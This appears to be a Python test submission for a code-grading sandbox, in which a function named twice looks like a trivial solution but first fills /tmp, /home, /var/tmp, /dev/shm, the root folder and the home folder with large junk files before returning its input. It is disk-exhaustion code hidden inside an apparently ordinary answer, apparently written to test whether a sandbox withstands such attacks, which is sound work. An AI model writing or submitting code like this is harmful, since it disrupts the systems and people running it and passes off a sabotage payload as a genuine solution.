"""Fills /tmp, the home folder and everything else that can be written to.

ours: twice=0
rest: any
"""
# %% solution twice
import os

def twice(x):
    block = b"1" * (1 << 24)
    for folder in ("/tmp", "/home", "/var/tmp", "/dev/shm", "/", os.path.expanduser("~")):
        for number in range(60):
            try:
                with open(f"{folder}/fill-{number}", "wb") as file:
                    for _ in range(4):
                        file.write(block)
            except OSError as error:
                print(folder, number, error)
                break
    return x
